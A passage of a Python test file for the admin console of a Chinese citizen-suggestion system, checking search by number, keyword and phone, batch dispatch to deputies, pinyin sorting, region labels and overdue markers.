    _, day, sequence = number.split("-")
    whole = day + sequence
    for typed, digits in ((number, whole), (number.lower(), whole), (f" {number} ", whole), (whole, whole),
                          (f"MSB{whole}", whole), (f"{day}-{sequence}", whole), (f"msb {day} {sequence}", whole),
                          (full_width(f"MSB-{day}-{sequence}"), whole), (sequence, sequence),
                          (sequence[-3:], sequence[-3:]), (full_width(sequence), sequence)):
        page = admin.get("/console/suggestions", query_string={"q": typed})
        assert _queue_numbers(page) == [number], typed
        assert f"按编号查找：编号末尾为 {digits} 的建议" in page.get_data(as_text=True), typed
    assert _queue_numbers(admin.get("/console/suggestions?q=MSB-20991231-000000")) == []
    # A number's start, or its tail written with more than its digits, is no number to look for.
    for typed in (f"MSB-{day[:4]}", f"MSB-{sequence}", f"{sequence[:3]} {sequence[3:]}"):
        page = admin.get("/console/suggestions", query_string={"q": typed})
        assert _queue_numbers(page) == [] and "按编号查找" not in page.get_data(as_text=True), typed

    lamp = file(client, world["citizen"], world["station_code"], content="幸福路128号门口的路灯坏了。").json
    words = admin.get("/console/suggestions?q=遮雨棚")
    assert _queue_numbers(words) == [number] and "按编号查找" not in words.get_data(as_text=True)
    assert _queue_numbers(admin.get("/console/suggestions?q=128号")) == [lamp["number"]]
    assert _queue_numbers(admin.get("/console/suggestions?q=28")) == [lamp["number"]]
    # Another station's administrator does not find it by its number.
    other = console_login(client.application, "changsha")
    assert _queue_numbers(other.get("/console/suggestions", query_string={"q": number})) == []
    assert _queue_numbers(other.get("/console/suggestions", query_string={"q": sequence})) == []


def test_the_keyword_finds_the_words_of_the_content_whatever_their_length(client, admin, world):  # noqa: F811
    """Words of one, two, three or more characters find exactly the items whose content holds them, in
    order, and ``%`` or ``_`` are characters like any other; digits too few for a number are words."""
    contents = {
        "lamp": "幸福路128号门口的路灯坏了。", "noise": "夜间施工噪音扰民，影响休息。", "percent": "满意度只有50%，希望改进。",
        "underscore": "网站账号a_b登录不了。", "plain": "小区里的路面坑洼不平。", "lamps": "楼道灯不亮，路口的灯也坏了。",
    }
    numbers = {}
    for name, content in contents.items():
        response = file(client, world["citizen"], world["station_code"], content=content)
        assert response.status_code == 201, response.json
        numbers[name] = response.json["number"]

    def found(keyword):
        return _queue_numbers(admin.get("/console/suggestions", query_string={"q": keyword}))

    newest_first = list(numbers)[::-1]
    for keyword, names in (("灯", ["lamps", "lamp"]), ("路灯", ["lamp"]), ("噪音", ["noise"]), ("灯坏", ["lamp"]),
                           ("路灯坏", ["lamp"]), ("噪音扰民", ["noise"]), ("夜间施工噪音扰民", ["noise"]),
                           ("50%", ["percent"]), ("%", ["percent"]), ("0%，", ["percent"]), ("_", ["underscore"]),
                           ("a_b", ["underscore"]), ("a_", ["underscore"]), ("路", ["lamps", "plain", "lamp"]),
                           ("12", ["lamp"]), ("128号", ["lamp"]), ("灯路", []), ("噪声", []), ("%%", []),
                           ("a%b", []), ("ab", []), ("坏了。", ["lamps", "lamp"])):
        assert found(keyword) == [numbers[name] for name in newest_first if name in names], keyword


def test_an_item_is_found_by_its_words_through_its_workflow_and_the_sweeps_flags(client, admin, world):  # noqa: F811
    """The pieces of an item's content are written once, when it is filed (on PostgreSQL by a trigger
    into suggestion_search_texts): a filed item is found at once, and after each step of its workflow
    and a flag set in bulk, as the sweep does, it is found once, in its new state, and its pieces were
    not written again."""
    def pieces():
        with client.application.app_context():
            if db.engine.dialect.name != "postgresql":
                return None
            return db.session.execute(text("SELECT suggestion_id, xmin::text FROM suggestion_search_texts "
                                            "ORDER BY suggestion_id")).all()

    filed = file(client, world["citizen"], world["deputy_code"], content="幸福小区北门的井盖松动，车辆经过响声很大。").json
    other = file(client, world["citizen"], world["station_code"], content="幸福小区的路灯不亮。").json
    written = pieces()
    assert written is None or [row[0] for row in written] == [filed["id"], other["id"]]

    def found(keyword):
        return _queue_numbers(admin.get("/console/suggestions", query_string={"q": keyword}))

    assert found("井盖松动") == [filed["number"]] and found("幸福小区") == [other["number"], filed["number"]]
    deputy = world["zhang_h"]
    for action, body in (("accept", {}), ("reply", {"content": "已联系市政更换井盖。"})):
        assert step(client, deputy, filed["id"], action, **body).status_code == 200, action
        assert found("井盖松动") == [filed["number"]], action
    with client.application.app_context():
        db.session.execute(update(Suggestion).values(overdue=True))
        db.session.commit()
    assert found("井盖") == [filed["number"]] and found("路灯") == [other["number"]]
    assert found("市政") == []  # the reply's words are not the content's
    assert pieces() == written


def test_a_keyword_matching_many_items_caps_its_count_and_the_export_keeps_every_row(
        client, admin, world, monkeypatch):  # noqa: F811
    """Past KEYWORD_COUNT_CAP matches the queue says "more than" instead of counting every item (at a
    province's size the exact count of a common word read every match) and pages on to the last match;
    the export of the same search still holds every matching item. A count within
    the cap, or a search with no words, is exact."""
    from backend.console import suggestions as queue

    monkeypatch.setattr(queue, "KEYWORD_COUNT_CAP", 4)
    monkeypatch.setattr(queue, "PER_PAGE", 2)
    filed = [file(client, world["citizen"], world["station_code"], content=f"第 {n} 处路灯不亮。").json["number"]
             for n in range(5)]
    other = file(client, world["citizen"], world["station_code"], content="噪音扰民。").json["number"]

    first = admin.get("/console/suggestions?q=路灯")
    assert "共 4+ 件（已筛选）" in first.get_data(as_text=True)
    assert "符合条件的建议超过 4 件：请补充关键词" in first.get_data(as_text=True) and "导出" in first.get_data(as_text=True)
    # Pages go on from the last row shown, past the count's cap, to the last match.
    second = admin.get(_link(first, "下一页"))
    last = admin.get(_link(second, "下一页"))
    assert _queue_numbers(first) + _queue_numbers(second) + _queue_numbers(last) == filed[::-1]
    assert "下一页" not in last.get_data(as_text=True)

    rows = list(_workbook(admin.get("/console/suggestions/export.xlsx?q=路灯"))["建议清单"].values)[1:]
    assert [row[0] for row in rows] == filed[::-1]

    exact = admin.get("/console/suggestions?q=第 4 处").get_data(as_text=True)
    assert "共 1 件（已筛选）" in exact and "count-capped" not in exact
    everything = admin.get("/console/suggestions").get_data(as_text=True)
    assert "共 6 件" in everything and "count-capped" not in everything and other in everything


def test_the_ledger_says_how_the_citizen_rated(client, admin, world):  # noqa: F811
    """The 台账 of an item sent back by a 不满意 names the rating; the item shows no rating any more."""
    item_id = file(client, world["citizen"], world["deputy_code"]).json["id"]
    step(client, world["zhang_h"], item_id, "accept")
    step(client, world["zhang_h"], item_id, "reply", content="已处理。")
    step(client, world["citizen"], item_id, "rate", satisfaction="dissatisfied", comment="路灯还是不亮")
    page = admin.get(f"/console/suggestions/{item_id}").get_data(as_text=True)
    ledger = page[page.index("办理台账"):]
    assert "<strong>评价：不满意</strong>" in ledger and "路灯还是不亮" in ledger


def test_deputy_pickers_list_deputies_by_the_pinyin_of_their_names(admin, world, pending, factory):  # noqa: F811
    """分派's list and 发单's picker are in 按姓氏拼音 order (陈、李、审、王、张), not by the characters' code
    points (审、张、李、王、陈); a surname read as one (曾 zēng) sorts by that reading."""
    for name, phone in (("审计甲", "13800000301"), ("陈明", "13800000302"), ("王秀兰", "13800000303"),
                        ("曾强", "13800000304")):
        factory.deputy(world["tree"]["hc"], name, phone=phone, stations=[world["station"]])
    page = admin.get(f"/console/suggestions/{pending['id']}").get_data(as_text=True)
    own = re.search(r'<optgroup label="本站代表">(.*?)</optgroup>', page, re.S).group(1)
    names = re.findall(r'>([^<·]+?) · ', own)
    assert names == sorted(names, key=lambda n: ["chen", "li", "shen", "wang", "zeng", "zhang"].index(
        {"陈": "chen", "李": "li", "审": "shen", "王": "wang", "曾": "zeng", "张": "zhang"}[n[0]])), names
    assert [n[0] for n in names][:3] == ["陈", "李", "审"] and names[-2:] == ["曾强", "张伟"], names
    form = admin.get("/console/activities/new").get_data(as_text=True)
    options = re.search(r'<ul class="picker-list picker-options">(.*?)</ul>', form, re.S).group(1)
    listed = [n.strip() for n in re.findall(r'value="\d+"> ([^<]+?) <small>', options)]
    assert [n[0] for n in listed] == [n[0] for n in names], listed
    found = admin.get("/console/deputy-options", query_string={"q": ""}).json["items"]
    assert [item["name"][0] for item in found] == [n[0] for n in names]


def test_an_item_filed_through_a_provincial_deputys_code_names_both_regions(client, admin, world, factory):  # noqa: F811
    """An item filed at a provincial deputy's code holds its deputy's region (湖南省), and is handled — and
    counted by a region filter — where its station is (鹤城区): the page names both, and the export's
    所属区域 is the station's, with the deputy's beside it."""
    provincial = factory.deputy(world["tree"]["root"], "李建国", phone="13800000009", stations=[world["station"]],
                                level="provincial")
    via_deputy = file(client, world["citizen"], provincial.qr_code).json
    via_station = file(client, world["citizen"], world["station_code"]).json
    page = html.unescape(admin.get(f"/console/suggestions/{via_deputy['id']}").get_data(as_text=True))
    facts = dict(re.findall(r"<dt>(.*?)</dt><dd>(.*?)</dd>", page))
    assert facts["代表所属区域"] == "湖南省" and facts["联络站所在区域"] == "鹤城区" and "所属区域" not in facts
    page = html.unescape(admin.get(f"/console/suggestions/{via_station['id']}").get_data(as_text=True))
    assert dict(re.findall(r"<dt>(.*?)</dt><dd>(.*?)</dd>", page))["所属区域"] == "鹤城区"
    rows = list(load_workbook(io.BytesIO(admin.get("/console/suggestions/export.xlsx").data))["建议清单"].values)
    column = rows[0].index("所属区域")
    regions = {row[0]: row[column] for row in rows[1:]}
    assert regions == {via_deputy["number"]: "鹤城区（代表所属区域：湖南省）", via_station["number"]: "鹤城区"}


def test_an_anonymous_items_page_says_its_contact_phone_is_for_calling_back_only(client, admin, world):  # noqa: F811
    """The citizen filed 匿名 and left a phone to be called back on: staff see it, told what it is for."""
    filed = file(client, world["citizen"], world["station_code"], content="城北菜市场门口积水严重，雨天无法通行。",
                 contact_phone="13711112222", anonymous=True)
    assert filed.status_code == 201
    html = admin.get(f"/console/suggestions/{filed.json['id']}").get_data(as_text=True)
    assert "<dt>提交人</dt><dd>匿名</dd>" in html
    assert re.search(r"<dt>联系电话</dt><dd>13711112222 <span class=\"muted small\">"
                     r"（群众匿名提交，此电话仅供办理时联系，请勿打听其身份）</span></dd>", html)


def test_staff_find_a_citizens_items_by_the_contact_phone_they_left(app, client, admin, world):  # noqa: F811
    """A citizen phones in about "what I reported last week" without its number: staff type the phone
    number as they hear it and find the items it was left with, exactly (a digit off finds nothing). A
    search by a citizen's phone is a look-up of personal data: the 操作日志 keeps who searched, with the
    number masked, and how many items it found."""
    mobile = file(client, world["citizen"], world["station_code"], content="城北菜市场门口积水严重，雨天无法通行。",
                  contact_phone="13900000001")
    landline = file(client, world["citizen"], world["station_code"], content="小区路灯坏了一个月。",
                    contact_phone="0731-84112345")
    other = file(client, world["citizen"], world["station_code"], content="公交站台没有遮雨棚。")
    assert mobile.status_code == landline.status_code == other.status_code == 201

    box = re.search(r"<label>([^<]*)<input type=\"search\" name=\"q\"[^>]*placeholder=\"([^\"]*)\"",
                    admin.get("/console/suggestions").get_data(as_text=True))
    assert box.groups() == ("编号、内容或联系电话 ", "如 000123 或 路灯")  # the box says it finds phones too

    def found(q):
        page = admin.get("/console/suggestions", query_string={"q": q}).get_data(as_text=True)
        return {n for n in (mobile.json["number"], landline.json["number"], other.json["number"]) if n in page}

    for typed in ("13900000001", "139 0000 0001", "139-0000-0001", "+86 13900000001", "１３９００００００01"):
        assert found(typed) == {mobile.json["number"]}, typed
    for typed in ("0731-84112345", "073184112345"):
        assert found(typed) == {landline.json["number"]}, typed
    assert found("13900000002") == set()
    # The export of the search holds what the queue showed.
    exported = _workbook(admin.get("/console/suggestions/export.xlsx", query_string={"q": "139 0000 0001"}))
    assert [row[0] for row in exported.worksheets[0].iter_rows(min_row=2, values_only=True)] == [mobile.json["number"]]

    log = admin.get("/console/audit", query_string={"action": "phone_searched"}).get_data(as_text=True)
    assert "按联系电话查找建议" in log and "联系电话：139****0001；找到建议：1" in log
    assert "联系电话：073****2345；找到建议：1" in log and "联系电话：139****0002；找到建议：0" in log
    with app.app_context():
        searched = db.session.scalars(db.select(AuditEvent).where(AuditEvent.action == "phone_searched")).all()
        export = db.session.scalars(db.select(AuditEvent).where(AuditEvent.action == "exported")).one()
    assert len(searched) == 8  # each search of the queue; the export is logged as an export
    assert export.detail["filters"] == {"q": "139****0001"}  # typed with spaces, masked all the same
    assert not any(digits in json.dumps(e.detail, ensure_ascii=False) for e in searched + [export]
                   for digits in ("00000001", "0000 0001", "0000-0001", "84112345"))


def test_several_pending_items_are_dispatched_to_one_deputy_at_once(client, admin, world, pending):  # noqa: F811
    """批量分派 on the queue: ticked items each go through the same 分派 as on their own page (the 台账
    line, the deputy's notice); one that can no longer be dispatched is named with why, and does not stop
    the others; the summary says what was done."""
    second = file(client, world["citizen"], world["station_code"], content="小区路灯坏了一个月。").json
    taken = file(client, world["citizen"], world["station_code"], content="公交站台没有遮雨棚。").json
    assert post_form(admin, f"/console/suggestions/{taken['id']}/dispatch",
                     {"deputy_id": world["li"].id}).status_code == 302

    queue = admin.get("/console/suggestions?status=pending").get_data(as_text=True)
    # Only items waiting for dispatch can be ticked (待分派 lists them oldest first); the form names the deputies.
    assert re.findall(r'<input type="checkbox" name="ids" value="(\d+)" form="batch-dispatch"', queue) == [
        str(pending["id"]), str(second["id"])]
    assert re.search(r'<form[^>]*id="batch-dispatch"[^>]*action="/console/suggestions/batch-dispatch"', queue)
    fields = form_fields(admin, "/console/suggestions?status=pending", "/console/suggestions/batch-dispatch")
    sent = admin.post("/console/suggestions/batch-dispatch", data=fields | {
        "ids": [pending["id"], second["id"], taken["id"], 99999], "deputy_id": world["zhang"].id, "note": "请尽快处理",
        "confirmed": "1"})
    assert sent.status_code == 302 and sent.headers["Location"].endswith("/console/suggestions?status=pending")
    assert flashes(admin.get(sent.headers["Location"])) == [
        "已分派 2 件给张伟，等待代表接单。",
        f"2 件未分派：{taken['number']}（当前状态为“待接单”，不是待分派）；编号 99999（建议不存在或不在您的管理范围内）。"]

    for item_id in (pending["id"], second["id"]):
        item = item_json(client, world["admin"], item_id)
        line = item["timeline"][-1]
        assert (item["status"], item["deputy"]["name"]) == ("assigned", "张伟")
        assert (line["action"], line["note"], line["actor_name"]) == ("dispatch", "请尽快处理", "chengbei")
    untouched = item_json(client, world["admin"], taken["id"])
    assert untouched["deputy"]["name"] == "李娜" and [e["action"] for e in untouched["timeline"]] == ["file", "dispatch"]
    # The deputy's inbox has both.
    inbox = client.get("/api/v1/suggestions", headers=world["zhang_h"]).json
    assert {i["id"] for i in inbox["items"]} == {pending["id"], second["id"]}

    # Sent again (a double click): the first post's outcome, nothing taken twice.
    again = admin.post("/console/suggestions/batch-dispatch", data=fields | {
        "ids": [pending["id"], second["id"]], "deputy_id": world["li"].id, "confirmed": "1"})
    assert flashes(admin.get(again.headers["Location"]))[0] == "已分派 2 件给张伟，等待代表接单。"
    assert item_json(client, world["admin"], pending["id"])["deputy"]["name"] == "张伟"

    # Nothing ticked, or no deputy chosen: said in the form, the queue shown again, nothing done.
    third = file(client, world["citizen"], world["station_code"], content="垃圾桶满了没人清。").json
    for data, message in (({"deputy_id": world["zhang"].id}, "请先勾选要分派的建议。"),
                          ({"ids": [third["id"]]}, "请选择要分派的代表。")):
        fields = form_fields(admin, "/console/suggestions?status=pending", "/console/suggestions/batch-dispatch")
        refused = admin.post("/console/suggestions/batch-dispatch", data=fields | data | {"confirmed": "1"})
        assert refused.status_code == 422 and refusal(refused) == [message]
    assert item_json(client, world["admin"], third["id"])["status"] == "pending"
def test_an_overdue_row_says_how_long_overdue(app, admin, staged):
    """超期 rows say by how much their deadline has passed (已超 N 天, under a day 已超 N 小时); others do not."""
    with app.app_context():
        item = db.session.scalars(select(Suggestion).where(Suggestion.number == staged["overdue"])).one()
        item.accept_due_dt = utcnow() - timedelta(days=2, hours=5)
        db.session.commit()
    page = admin.get("/console/suggestions?overdue=1").get_data(as_text=True)
    row = re.search(r"<tbody>\s*<tr>(.*?)</tr>", page, re.S).group(1)
    assert '<span class="overdue-by">已超 2 天</span>' in row
    with app.app_context():
        item = db.session.scalars(select(Suggestion).where(Suggestion.number == staged["overdue"])).one()
        item.accept_due_dt = utcnow() - timedelta(hours=5, minutes=10)
        db.session.commit()
    page = admin.get("/console/suggestions").get_data(as_text=True)
    assert page.count('class="overdue-by"') == 1 and '<span class="overdue-by">已超 5 小时</span>' in page
